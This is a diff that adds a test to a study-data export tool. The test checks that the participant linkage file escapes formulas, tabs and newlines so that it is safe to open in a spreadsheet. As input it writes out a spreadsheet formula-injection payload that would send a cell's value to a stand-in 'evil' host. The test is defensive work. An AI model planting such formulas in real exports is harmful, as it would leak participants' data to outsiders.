@@ -246,6 +246,26 @@ def test_a_lab_session_copied_in_leaves_its_platform_id_out_of_a_shared_dataset(
     assert lab_id in set(read_tsv(kept / "participants.tsv")["source_id"])
 
 
+def test_the_linkage_file_is_one_line_a_participant_and_safe_in_a_spreadsheet(tmp_path, online_set):
+    """Opened in a spreadsheet to pay participants: a formula id is text, as in
+    admin/participants.csv, and a tab or line break the address carried stays in its cell."""
+    client = make_client(tmp_path, online_set)
+    formula = '=HYPERLINK("https://evil/?"&A2,"approve")'
+    answer, _ = start(
+        client, formula, url_parameters={"participant": formula, "STUDY_ID": "a\tb\nc"}
+    )
+    assert answer.status_code == 201, answer.text
+    out = tmp_path / "bids"
+    done = run_main("export-online", "--db", f"sqlite:///{client.db}", "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    lines = (tmp_path / "bids.linkage.tsv").read_text().splitlines()
+    assert len(lines) == 2
+    row = dict(zip(lines[0].split("\t"), lines[1].split("\t"), strict=True))
+    assert row["source_id"] == "'" + formula
+    assert row["STUDY_ID"] == "a\\u0009b\\u000ac"
+    assert row["participant"] == "HYPERLINKhttpsevilA2approve"  # the id rule's label
+
+
 def test_a_key_the_export_cannot_trust_is_refused_in_one_line(tmp_path, online_set):
     client = make_client(tmp_path, online_set)
     take_part(client, "5f8d0e2a9b1c3d4e5f6a7b8c", None, trials=1, browser=BROWSERS[0])
